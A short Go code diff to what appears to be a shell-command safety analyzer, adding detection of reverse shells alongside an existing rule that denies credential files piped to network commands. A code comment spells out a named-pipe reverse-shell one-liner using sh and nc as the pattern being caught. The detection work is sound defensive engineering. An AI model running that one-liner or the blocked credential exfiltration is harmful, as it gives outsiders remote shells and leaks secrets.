@@ -16,6 +16,7 @@ const (
 	effShellStdin                 // runs code read from stdin (sh, bash -s, python -)
 	effCredRead                   // writes a credential file to stdout
 	effNetwork                    // talks to the network (and may send its stdin)
+	effStdinCode                  // runs code from stdin that is not known (sh -i fed by a pipe or a file)
 )
 
 // source is the text being judged: the top-level command, or a nested script (sh -c,
@@ -361,6 +362,10 @@ func (a *analyzer) pipeline(x *syntax.BinaryCmd) eff {
 		}
 		if e&effNetwork != 0 && before&effCredRead != 0 {
 			a.addNode("exfil.credential", Deny, st, "A credential file is piped to a network command")
+		}
+		if e&effNetwork != 0 && before&effStdinCode != 0 {
+			// cat /tmp/f | sh -i 2>&1 | nc host 1 > /tmp/f
+			a.addNode("network.reverse-shell", Deny, st, "A shell that runs commands from its input sends its output to a network command")
 		}
 		before |= e
 		all |= e
